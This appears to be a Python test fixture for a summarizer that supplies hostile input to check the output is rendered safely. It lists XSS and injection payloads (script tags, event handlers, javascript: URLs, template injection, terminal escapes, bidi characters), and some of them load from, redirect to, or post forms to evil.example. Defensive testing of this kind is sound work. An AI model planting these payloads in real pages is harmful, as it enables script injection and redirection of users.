"""Text that tries to be more than text, and a summary forged with it in every field."""

from __future__ import annotations

from typing import Any

from summarizer.core.summary import ArticleSummary
from tests.render.samples import DRAFT, TEXT, summarised

# Every payload sets window.ran where it runs.
PAYLOADS = (
    "</script><script>window.ran = 1</script>",
    "<img src=x onerror=window.ran=1>",
    '"><svg onload=window.ran=1>',
    "' onmouseover=window.ran=1 '",
    "<!--<script>",
    "]]><iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "</style><style>@import url(https://evil.example/x.css)</style>",
    "<a href=javascript:window.ran=1>x</a> javascript:window.ran=1",
    "{{constructor.constructor('window.ran=1')()}} ${window.ran=1} <%= 1 %>",
    "\x1b[31m\x1b]8;;https://evil.example\x07 \x00\x08",
    "\u202edetrever\u2066\u200b\u2028\u2029\ufeff\U000e0041",
    "<base href=https://evil.example/><meta http-equiv=refresh content=0;url=https://evil.example>",
    "<link rel=prefetch href=https://evil.example/><form action=https://evil.example><input autofocus>",
)
ALL = " ".join(PAYLOADS)


def hostile_article() -> ArticleSummary:
    """An honest summary, by the pipeline, of an article full of it."""
    text = TEXT.replace("\n\n", f"\n\n{ALL}\n\n")
    return summarised(text, DRAFT, title=ALL, source="javascript:window.ran=1")


def forged(text: str | None) -> ArticleSummary:
    """A summary whose every string is hostile, built past the schema's own types where need be."""
    found = summarised().model_dump(mode="json")
    found["rejected"] += [
        {"kind": kind, "item": found[field][0], "reasons": []}
        for kind, field in (
            ("actor", "actors"),
            ("position", "positions"),
            ("planned_talk", "planned_talks"),
            ("open_question", "open_questions"),
        )
    ]
    found = _poisoned(found)
    found["article"]["text"] = text
    found["article"]["sentences"] += [{"n": 1, "start": -5, "end": 10**9}, {"n": -3, "start": 9, "end": 2}]
    return ArticleSummary.model_validate(found, strict=False)


# Values that the schema's types fix; everything else that is a string is replaced.
_FIXED = frozenset(
    "schema_version status kind mode verdict reasons style outcome precision start end published started "
    "prices_dated".split()
)


def _poisoned(value: Any, key: str = "") -> Any:
    if isinstance(value, dict):
        return {name: _poisoned(item, name) for name, item in value.items()}
    if isinstance(value, list):
        return value if key in _FIXED else [_poisoned(item, key) for item in value]
    if not isinstance(value, str) or key in _FIXED:
        return value
    return ALL
